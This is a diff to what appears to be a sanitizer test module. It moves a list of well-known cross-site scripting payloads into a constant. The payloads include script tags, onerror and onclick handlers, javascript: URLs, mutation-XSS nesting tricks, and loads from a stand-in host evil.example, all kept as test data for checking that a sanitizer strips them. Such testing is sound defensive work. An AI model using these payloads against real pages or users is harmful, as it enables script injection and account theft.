@@ -49,6 +49,42 @@ OPENERS = (
 )
 
 
+FAMOUS = (
+    "<script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
+    "<select><option><script>alert(1)</script>",
+    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "<base href=//evil.example><meta http-equiv=refresh content='0;javascript:alert(1)'>",
+    "`<script>alert(1)</script>` <b>`</b><script>alert(1)</script>",
+    "```text\n</code></pre><script>alert(1)</script>\n```",
+    "*[x]: \"><script>alert(1)</script>\n\nx",
+    "x[^1]\n\n[^1]: <script>alert(1)</script>",
+    "!!! note \"<img src=x onerror=alert(1)>\"\n    <script>alert(1)</script>",
+    "a {: onclick=\"alert(1)\" style=\"x\" id=\"location\" .evil }",
+    "<a href='/static/../../x' onclick=1>x</a><a href='/static/\\evil'>x</a>",
+    "<p id=fn-1 name=x><form id=attributes><input name=parentNode></form>",
+    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
+    "</body></html><script>alert(1)</script>",
+    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<a href=https://a.example/\"onmouseover=alert(1)>x</a>",
+    "<img src=`x`onerror=alert(1)><img/src/onerror=alert(1)>",
+    "<<SCRIPT>alert(1);//<</SCRIPT>",
+    "<p lang='fr\" onclick=\"alert(1)'>x</p>",
+)  # fmt: skip
+
+
 def payloads() -> Iterator[str]:
     """A few hundred hostile texts, of the families that sanitizers have missed."""
     for opener in OPENERS:
@@ -66,40 +102,7 @@ def payloads() -> Iterator[str]:
         yield f'[x](https://a.example "onclick=alert(1)"){{: href="{scheme}alert(1)" onclick="alert(1)" }}'
         yield f'<iframe src="{scheme}alert(1)"></iframe><form action="{scheme}1"><button formaction="{scheme}1">'
         yield f'<svg><a xlink:href="{scheme}alert(1)"><text y=20>x</text></a></svg>'
-    yield from (
-        "<script>alert(1)</script>",
-        "<scr<script>ipt>alert(1)</scr</script>ipt>",
-        "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
-        "<style>*{background:url(//evil.example)}</style>",
-        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
-        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-        "<template><script>alert(1)</script></template>",
-        "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
-        "<select><option><script>alert(1)</script>",
-        "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
-        "<!--><img src=x onerror=alert(1)>-->",
-        "<!--[if IE]><script>alert(1)</script><![endif]-->",
-        "<![CDATA[<script>alert(1)</script>]]>",
-        "<?xml-stylesheet href='javascript:alert(1)'?>",
-        "<base href=//evil.example><meta http-equiv=refresh content='0;javascript:alert(1)'>",
-        "`<script>alert(1)</script>` <b>`</b><script>alert(1)</script>",
-        "```text\n</code></pre><script>alert(1)</script>\n```",
-        "*[x]: \"><script>alert(1)</script>\n\nx",
-        "x[^1]\n\n[^1]: <script>alert(1)</script>",
-        "!!! note \"<img src=x onerror=alert(1)>\"\n    <script>alert(1)</script>",
-        "a {: onclick=\"alert(1)\" style=\"x\" id=\"location\" .evil }",
-        "<a href='/static/../../x' onclick=1>x</a><a href='/static/\\evil'>x</a>",
-        "<p id=fn-1 name=x><form id=attributes><input name=parentNode></form>",
-        "\x02klzzwxh:0000\x03<script>alert(1)</script>",
-        "</body></html><script>alert(1)</script>",
-        "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
-        "&lt;script&gt;alert(1)&lt;/script&gt;",
-        "<a href=https://a.example/\"onmouseover=alert(1)>x</a>",
-        "<img src=`x`onerror=alert(1)><img/src/onerror=alert(1)>",
-        "<<SCRIPT>alert(1);//<</SCRIPT>",
-        "<p lang='fr\" onclick=\"alert(1)'>x</p>",
-    )  # fmt: skip
+    yield from FAMOUS
 
 
 PAYLOADS = tuple(payloads())
